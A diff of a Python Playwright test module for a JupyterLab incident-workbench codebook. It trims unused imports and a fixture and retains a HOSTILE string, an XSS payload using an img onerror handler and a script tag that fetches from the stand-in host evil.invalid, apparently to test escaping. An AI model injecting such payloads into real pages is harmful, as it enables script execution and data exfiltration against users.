@@ -1,19 +1,19 @@
 """The codebook in a real JupyterLab, with a real kernel: keys, mouse, two analysts, hostile words."""
 
 import re
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 from pathlib import Path
 from time import monotonic, sleep
 
 import pytest
 from axe_playwright_python.sync_playwright import Axe
-from playwright.sync_api import Browser, Page, expect
+from playwright.sync_api import Page, expect
 
 from incident_workbench.codebook import edited
 from incident_workbench.coding import apply
 from incident_workbench.model.claims import Code, Coding
 from incident_workbench.store import Store
-from tests.browser.lab import Lab, Notebook, serving
+from tests.browser.lab import Lab, Notebook
 
 SHOW = """\
 from incident_workbench import Store
@@ -24,12 +24,6 @@ codebook"""
 HOSTILE = (
     "<img src=x onerror=\"window.__fired=1;fetch('http://evil.invalid/x')\"><script>window.__fired=1</script>"
 )
-
-
-@pytest.fixture(scope="module")
-def lab(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
-    with serving(tmp_path_factory.mktemp("codebook-lab"), browser) as lab:
-        yield lab
 
 
 def project(folder: Path, *lines: str) -> Store:
